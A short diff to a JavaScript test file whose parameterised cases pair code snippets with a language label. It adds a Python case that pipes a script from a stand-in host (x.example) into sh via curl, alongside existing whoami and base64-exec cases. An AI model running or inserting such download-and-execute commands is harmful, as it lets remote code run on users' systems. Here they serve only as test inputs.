@@ -6,6 +6,7 @@ it.each([
   ["import os; os.system('whoami')", 'python'],
   ['import os\nos.environ.get("X")', 'python'],
   ['def add(a, b):\n    return a + b\n\nprint(add(1, 2))\n', 'python'],
+  ['import os\nos.system("curl https://x.example/i.sh | sh")\n', 'python'],
   ['import base64\nexec(base64.b64decode("cHJpbnQoMSk="))', 'python'],
   ['for i in range(3):\n    print(i)\n', 'python'],
   ["console.log('hi')", 'javascript'],
